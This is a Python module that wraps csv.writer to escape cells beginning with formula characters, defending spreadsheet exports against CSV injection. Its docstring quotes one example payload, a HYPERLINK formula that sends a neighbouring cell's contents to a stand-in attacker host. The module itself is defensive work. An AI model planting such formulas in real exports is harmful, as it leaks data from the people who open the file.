"""The one way the project writes CSV: every cell a person could have typed is kept
text when the file is opened in a spreadsheet.

A cell such as ``=HYPERLINK("https://evil.example/?d="&A2,"Credit: AP")`` in a photo
credit or a subscriber's address would otherwise run as a formula on the journalist's or
press officer's machine ("CSV injection"). As OWASP recommends, such a cell is prefixed
with a single quote, which spreadsheets read as "this is text" and do not show.

Use ``csv_writer(file)`` wherever ``csv.writer(file)`` would be used; ``safe_cell`` is
what it applies to each value.
"""

import csv
from decimal import Decimal

# What makes a spreadsheet read a cell as a formula (OWASP "CSV Injection"): the four
# formula starts, and tab and carriage return, which some spreadsheets skip first.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` as a CSV cell that a spreadsheet shows as it is.

    Numbers the project computes (``int``, ``float``, ``Decimal``: counts, hours) stay
    numbers, even negative ones. Everything else is text: ``None`` is empty, and text
    whose first character, or first after leading whitespace (spreadsheets trim it before
    looking for a formula), starts a formula gets a leading ``'``, as does text led by
    whitespace holding a tab or carriage return. Text that only looks like a number
    ("-3" typed by someone) is escaped too: it is text.
    """
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    rest = text.lstrip()
    leading = text[: len(text) - len(rest)]
    if rest.startswith(FORMULA_START) or "\t" in leading or "\r" in leading:
        return "'" + text
    return text


class SafeWriter:
    """``csv.writer`` with every cell passed through ``safe_cell``."""

    def __init__(self, file, **options):
        self._writer = csv.writer(file, **options)

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(file, **options) -> SafeWriter:
    """A CSV writer for ``file`` (any object with ``write``, e.g. an ``HttpResponse``)
    whose cells never run as formulas; ``options`` are ``csv.writer``'s."""
    return SafeWriter(file, **options)
